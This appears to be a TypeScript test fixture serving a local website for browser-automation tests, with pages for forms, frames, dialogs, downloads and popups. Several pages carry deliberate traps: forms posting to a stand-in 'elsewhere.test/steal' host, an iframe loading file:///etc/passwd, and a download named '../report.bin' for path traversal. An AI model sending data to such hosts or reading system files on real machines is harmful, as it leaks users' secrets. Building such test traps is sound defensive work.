/** The site that the browser tests drive. */
import type { Route } from "./site.js";

const page = (title: string, body: string, head = ""): string =>
	`<!doctype html><html><head><meta charset="utf-8"><title>${title}</title>${head}</head><body>${body}</body></html>`;

const PAGES: Record<string, string> = {
	"/": page("Home", `<h1>Home</h1><div><div><div><a href="/form">The form</a></div></div></div><a href="/spa">The app</a>`),
	"/form": page(
		"Form",
		`<h1>Form</h1><form method="post" action="/sent"><label>Name <input name="name"></label><label>Secret <input type="password" name="secret"></label>
		<label>Colour <select name="colour"><option value="r">Red</option><option value="g">Green</option></select></label><button>Send</button></form>
		<form method="post" action="http://elsewhere.test/steal"><input name="x" aria-label="Other"><button>Send away</button></form>`,
	),
	"/frames": page(
		"Frames",
		`<h1>Frames</h1><iframe src="/inner" title="inner"></iframe><div id="host"></div><p id="said"></p><script>const root=document.getElementById("host").attachShadow({mode:"open"});root.innerHTML="<button>In the shadow</button>";root.querySelector("button").onclick=()=>{document.getElementById("said").textContent="shadow clicked"}</script>`,
	),
	"/inner": page("Inner", `<button onclick="this.textContent='frame clicked'">In the frame</button>`),
	"/dialogs": page(
		"Dialogs",
		`<button onclick="alert('hello there')">Alert</button><button onclick="document.getElementById('r').textContent='said '+prompt('who?')">Prompt</button><p id="r">nothing</p>`,
	),
	"/files": page(
		"Files",
		`<a href="/report.bin">Report</a><a href="/endless.bin">Without end</a><input type="file" aria-label="Choose" onchange="this.files[0].text().then(t=>document.getElementById('r').textContent=this.files[0].name+':'+t)"><p id="r"></p>`,
	),
	"/spa": page(
		"App",
		`<div id="root">Loading…</div><script>console.log("app starts");console.error("app error");fetch("/late").then(r=>r.text()).then(t=>{document.getElementById("root").innerHTML="<button onclick=\\"history.pushState({},'','/spa/two');this.textContent='second view'\\">"+t+"</button>"})</script>`,
	),
	"/again": page("Again", `<button onclick="fetch('/late').then(r=>r.text()).then(t=>{this.textContent=t})">Ask</button>`),
	"/hung": page("Hung", `<h1>Around it</h1><input aria-label="Beside"><iframe src="/silent"></iframe><iframe src="file:///etc/passwd"></iframe>`),
	"/endless": page(
		"Endless",
		`<div id="list"></div><script>let n=0;const more=()=>{for(let i=0;i<40;i++){const p=document.createElement("p");p.textContent="Row "+(n++);document.getElementById("list").append(p)}};more();addEventListener("scroll",()=>{if(innerHeight+scrollY>document.body.scrollHeight-50&&n<200)more()})</script>`,
	),
	"/tabs": page("Tabs", `<a href="/" target="_blank">Open another</a>`),
	"/parts": page("Parts", `<button onclick="this.textContent='top pressed'">Top</button><section aria-label="Part"><button>Inner</button></section>`),
	"/swap": page("Swap", `<iframe src="/one" id="frame"></iframe><button onclick="document.getElementById('frame').src='/danger'">Swap</button>`),
	"/one": page("One", `<button>One</button>`),
	"/danger": page("Danger", `<button onclick="this.textContent='danger pressed'">Danger</button>`),
	"/popup": page("Popup", `<button onclick="window.open('/closing')">Open</button>`),
	"/closing": page("Closing", `<button onclick="window.close()">Close me</button>`),
	"/leaving": page("Leaving", `<input aria-label="Field"><script>addEventListener("beforeunload",event=>event.preventDefault())</script>`),
	"/shown": page(
		"Shown",
		`<form action="/sent"><input type="password" aria-label="Secret" name="name" id="field"></form><button onclick="document.getElementById('field').type='text'">Show it</button><button onclick="console.log(document.getElementById('field').value)">Log it</button>`,
	),
	"/away": page(
		"Away",
		`<form id="away" method="post" action="http://elsewhere.test/steal"><input name="action"><input name="method"><input aria-label="Field"><input type="submit" id="send" value="Go"></form>
		<label for="send">By its label</label><button form="away"><b>Outside</b></button><iframe src="/away-inner" title="inner"></iframe>`,
	),
	"/away-ways": page(
		"Ways",
		`<form method="get" action="/sent"><input aria-label="Search"><button formmethod="post" formaction="http://elsewhere.test/steal">Find</button></form>
		<section aria-label="Whole" style="width:9em"><form method="post" action="http://elsewhere.test/steal"><input type="hidden" name="assignedSlot"><input type="hidden" name="baseURI"><button style="width:9em;height:9em">Big</button></form></section>
		<form method="post" action="http://elsewhere.test/steal"><button>Small</button></form>
		<x-slot><span role="note" aria-label="Slotted">Slotted</span></x-slot><img name="baseURI" alt=""><h1>Heading</h1>
		<script>customElements.define("x-slot",class extends HTMLElement{constructor(){super();this.attachShadow({mode:"open"}).innerHTML='<form method="post" action="http://elsewhere.test/steal"><button><slot></slot></button></form>'}})</script>`,
	),
	"/away-inner": page("Inner", `<form method="post" action="http://elsewhere.test/steal"><input aria-label="In a frame"></form>`),
	"/hangs": page("Hangs", `<h1>All there but a picture</h1><img src="/never" alt="">`),
	"/spot": page("Spot", `<input aria-label="Here" style="position:absolute;left:40px;top:20px;width:200px;height:16px">`),
	"/two": page("Two", `<p>Page two</p>`),
};

const PIECE = Buffer.alloc(64 * 1024);
let late: (() => void) | undefined;
let isDue = false;

/** Lets the late content of the app come, once, whether it was asked for already or not. */
export function letLate(): void {
	isDue = late === undefined;
	late?.();
	late = undefined;
}

export const route: Route = (request, response, body) => {
	const path = (request.url ?? "/").split("?")[0] ?? "/";
	const found = PAGES[path];
	if (found !== undefined) return response.writeHead(200, { "content-type": "text/html" }).end(found);
	if (path === "/sent")
		return response
			.writeHead(200, { "content-type": "text/html" })
			.end(page("Sent", `<h1>Sent</h1><p>${new URLSearchParams(body).get("name")} ${new URLSearchParams(body).get("colour")}</p>`));
	if (path === "/late") {
		const answer = () => response.end("Late button");
		if (isDue) answer();
		else late = answer;
		isDue = false;
		return;
	}
	if (path === "/report.bin")
		return response.writeHead(200, { "content-disposition": 'attachment; filename="../report.bin"' }).end(Buffer.from([0, 1, 2, 255]));
	if (path === "/endless.bin") {
		response.writeHead(200, { "content-disposition": "attachment" });
		const more = (): void => {
			while (!response.destroyed && response.write(PIECE));
			if (!response.destroyed) response.once("drain", more);
		};
		return more();
	}
	if (path === "/silent") return;
	if (path === "/never") {
		response.writeHead(200, { "content-type": "text/html" }).write("<title>Never</title><h1>Half a page</h1>"); // its end never comes
		return;
	}
	response.writeHead(404, { "content-type": "text/html" }).end(page("None", "no such page"));
};
